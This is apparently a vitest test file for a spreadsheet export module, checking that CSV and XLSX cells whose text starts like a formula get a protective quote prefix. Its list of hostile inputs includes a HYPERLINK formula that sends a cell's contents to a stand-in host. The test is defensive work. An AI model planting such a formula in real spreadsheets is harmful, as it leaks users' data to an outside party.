import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvCell, neutraliseFormula } from './spreadsheet-text.ts';
import { toXlsx } from './xlsx.ts';

const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1',
  '\r=1',
];

describe('user text a spreadsheet opens (formula injection)', () => {
  it('prefixes text that starts like a formula with a single quote', () => {
    for (const text of HOSTILE) expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('leaves ordinary text and plain numbers written as text alone', () => {
    for (const text of ['Pérez Quispe', '-12.50', '+51', '42', '', '-', 'a=b', "'quoted"])
      expect(neutraliseFormula(text)).toBe(text);
  });

  it('neutralises and quotes a CSV field', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });

  it('writes every cell of an export as prefixed text, never as a formula', async () => {
    const file = await toXlsx(
      'sheet',
      [{ header: 'name', value: (r: { name: string }) => r.name }],
      [...HOSTILE.map((name) => ({ name })), { name: 'Ana' }],
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    const cells = HOSTILE.map((_, i) => sheet?.getRow(i + 2).getCell(1));
    for (const [i, cell] of cells.entries()) {
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      // XML stores a carriage return as a line feed; the quote in front is what counts.
      expect(cell?.value).toBe(`'${HOSTILE[i]?.replace('\r', '\n')}`);
    }
    expect(sheet?.getRow(HOSTILE.length + 2).getCell(1).value).toBe('Ana');
  });
});
